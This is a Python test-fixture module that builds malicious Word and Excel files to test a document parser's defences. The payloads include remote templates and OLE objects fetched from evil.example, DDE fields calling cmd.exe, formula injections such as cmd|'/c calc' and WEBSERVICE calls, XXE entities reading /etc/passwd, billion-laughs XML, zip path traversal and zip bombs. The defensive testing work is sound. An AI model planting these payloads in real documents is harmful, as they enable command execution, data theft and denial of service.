"""Word and Excel files that act, fetch, swell or are broken."""

from __future__ import annotations

import io
import struct
import zipfile
from functools import cache

import docx

from tests.documents.hostile import MB, ZIP_BOMB, Hostile, flipped

RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@cache
def plain_word() -> bytes:
    """A harmless Word file."""
    made = docx.Document()
    made.add_paragraph("Kommunstyrelsen har ordet i dag.")
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


@cache
def plain_excel() -> bytes:
    """A harmless Excel file with one sheet."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    types = "http://schemas.openxmlformats.org/package/2006/content-types"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{types}"><Override PartName="/xl/workbook.xml" '
        f'ContentType="{kind}.sheet.main+xml"/></Types>',
        "xl/workbook.xml": "<workbook/>",
        "xl/worksheets/sheet1.xml": "<worksheet><f>1+1</f></worksheet>",
    }
    return packed({name: text.encode() for name, text in parts.items()})


def packed(parts: dict[str, bytes]) -> bytes:
    """A zip of these members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in parts.items():
            made.writestr(name, data)
    return out.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    """The members of a zip."""
    with zipfile.ZipFile(io.BytesIO(data)) as found:
        return {name: found.read(name) for name in found.namelist()}


def _word(**parts: bytes | str) -> bytes:
    """The harmless Word file with parts added or replaced; __ in a name is a slash, _dot_ a full stop."""
    changed = parts_of(plain_word())
    for name, data in parts.items():
        path = name.replace("__", "/").replace("_dot_", ".")
        changed[path] = data.encode() if isinstance(data, str) else data
    return packed(changed)


def _leaning(kind: str, target: str, *, outside: bool = False) -> bytes:
    mode = ' TargetMode="External"' if outside else ""
    whole = kind if "://" in kind else f"{RELATION}/{kind}"
    relation = f'<Relationship Id="x1" Type="{whole}" Target="{target}"{mode}/>'
    old = parts_of(plain_word())["word/_rels/document.xml.rels"].decode()
    new = old.replace("</Relationships>", relation + "</Relationships>")
    return _word(word___rels__document_dot_xml_dot_rels=new)


def _field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return _word(
        word__document_dot_xml=f"<w:document {W}><w:body><w:p>{runs}</w:p></w:body></w:document>"
    )


def _typed(kind: str) -> bytes:
    old = parts_of(plain_word())["[Content_Types].xml"].decode()
    return packed({**parts_of(plain_word()), "[Content_Types].xml": old.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", kind
    ).encode()})  # fmt: skip


def _formula(words: str) -> bytes:
    sheet = f"<worksheet><f>{words}</f></worksheet>".encode()
    return packed({**parts_of(plain_excel()), "xl/worksheets/sheet1.xml": sheet})


LEANING = (
    ("attachedTemplate", "file:///C:/mall.dotm"), ("attachedTemplate", "http://evil.example/mall.dotm"),
    ("oleObject", "http://evil.example/a.bin"), ("frame", "http://evil.example/"), ("image", "http://evil.example/a.png"),
    ("image", "file:///etc/passwd"), ("subDocument", "file:///C:/a.docx"), ("hyperlink", "file:///C:/a.exe"),
    ("hyperlink", "\\\\evil.example\\a"), ("hyperlink", "javascript:alert(1)"), ("hyperlink", "ms-msdt:/id"),
    ("externalLinkPath", "a.xlsx"), ("mailMergeSource", "file:///a.mdb"), ("video", "http://evil.example/film"),
)  # fmt: skip
INSIDE = ("oleObject", "package", "control", "aFChunk", "externalLink", "connections", "vbaProject",
          "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "xlMacrosheet", "queryTable")  # fmt: skip
FIELDS = (
    ("DDE c:\\\\cmd.exe",), (" DDEAUTO c:\\\\cmd.exe",), ("D", "DEAUTO x"), (" dde", "auto x"), ("INCLUDETEXT a",),
    ("INCLUDE", "PICTURE http://evil.example/a"), ("LINK Excel.Sheet a",), ("IMPORT a",), ("DATABASE a",), ("RD a",),
)  # fmt: skip
FORMULAS = ("cmd|'/c calc'!A0", "WEBSERVICE(&quot;http://evil.example&quot;)", "_xlfn.WEBSERVICE(A1)", "CALL(A1)",
            "REGISTER.ID(A1)", "EXEC(A1)", "MSEXCEL|'\\a.xlsx'!A1", "RTD(A1)")  # fmt: skip
TYPES = (
    "application/vnd.ms-word.document.macroEnabled.main+xml", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml", "application/xml", "",
    "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
)  # fmt: skip
XML = {
    "entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "laughs": "<!DOCTYPE a [" + "".join(
        f"<!ENTITY l{n} '{f'&l{n - 1};' * 10 if n else 'ha'}'>" for n in range(9)
    ) + "]><a>&l8;</a>",
    "outside": '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
    "deep": "<a>" * 5000 + "</a>" * 5000,
    "open": "<a><b>",
    "nothing": "",
    "words": "inte xml",
    "encoding": '<?xml version="1.0" encoding="klingon"?><a/>',
    "chunk": f'<w:document {W}><w:altChunk/></w:document>',
}  # fmt: skip


@cache
def offices() -> tuple[Hostile, ...]:
    """Word and Excel files that act, fetch, swell or are broken."""
    word = plain_word()
    found = [
        Hostile(f"outside-{n}", "a.docx", _leaning(k, t, outside=True))
        for n, (k, t) in enumerate(LEANING)
    ]
    found += [Hostile(f"inside-{kind[-12:]}", "a.docx", _leaning(kind, "a.bin")) for kind in INSIDE]
    found += [Hostile(f"field-{n}", "a.docx", _field(*pieces)) for n, pieces in enumerate(FIELDS)]
    found += [
        Hostile(f"formula-{n}", "a.xlsx", _formula(words)) for n, words in enumerate(FORMULAS)
    ]
    found += [Hostile(f"type-{n}", "a.docx", _typed(kind)) for n, kind in enumerate(TYPES)]
    found += [
        Hostile(f"xml-{n}", "a.docx", _word(word__document_dot_xml=x)) for n, x in XML.items()
    ]
    found += [
        Hostile("utf-16-entity", "a.docx", _word(word__document_dot_xml=XML["entity"].encode("utf-16"))),
        Hostile("web-link", "a.docx", _leaning("hyperlink", "https://huddinge.se/", outside=True), True),
        Hostile("macros", "a.docx", _word(word__vbaProject_dot_bin=b"\xd0\xcf\x11\xe0")),
        Hostile("embedding", "a.docx", _word(word__embeddings__a_dot_xlsx=plain_excel())),
        Hostile("active-x", "a.docx", _word(word__activeX__a_dot_xml="<a/>")),
        Hostile("traversal", "a.docx", packed({**parts_of(word), "../../etc/passwd": b"x"})),
        Hostile("root", "a.docx", packed({**parts_of(word), "/etc/passwd": b"x"})),
        Hostile("backslash", "a.docx", packed({**parts_of(word), "..\\a": b"x"})),
        Hostile("twice", "a.docx", packed({**parts_of(word), "WORD/document.xml": b"<a/>"})),
        Hostile("bomb", "a.docx", _word(word__document_dot_xml=b"<a>" + b" " * ZIP_BOMB)),
        Hostile("bomb-media", "a.docx", _word(word__media__a_dot_png=b"\0" * ZIP_BOMB)),
        Hostile("bomb-elements", "a.docx", _word(word__document_dot_xml=b"<a>" + b"<b/>" * 600_000 + b"</a>")),
        Hostile("members", "a.docx", packed({**parts_of(word), **{f"a{n}": b"" for n in range(3001)}})),
        Hostile("zip-in-zip", "a.docx", packed({"a.zip": packed({"b": b"\0" * MB})})),
        Hostile("empty-zip", "a.docx", packed({})),
        Hostile("no-types", "a.docx", packed({"word/document.xml": b"<a/>"})),
        Hostile("two-kinds", "a.docx", packed({**parts_of(plain_excel()), **parts_of(word)}), True),
        Hostile("old-word", "a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000),
        Hostile("lying-size", "a.docx", _lying(word)),
        Hostile("password", "a.docx", _with_flag(word)),
    ]  # fmt: skip
    found += [Hostile(f"cut-{n}", "a.docx", word[: len(word) * n // 10]) for n in range(1, 10)]
    found += [Hostile(f"flip-{n}", "a.docx", flipped(word, n), True) for n in range(30)]
    return tuple(found)


def _lying(data: bytes) -> bytes:
    """Every member says in the list that it is one byte long."""
    changed, at = bytearray(data), 0
    while (at := changed.find(b"PK\x01\x02", at)) >= 0:
        changed[at + 24 : at + 28] = struct.pack("<I", 1)
        at += 4
    return bytes(changed)


def _with_flag(data: bytes) -> bytes:
    """Every member says that it needs a password."""
    changed, at = bytearray(data), 0
    while (at := changed.find(b"PK\x01\x02", at)) >= 0:
        changed[at + 8] |= 1
        at += 4
    return bytes(changed)
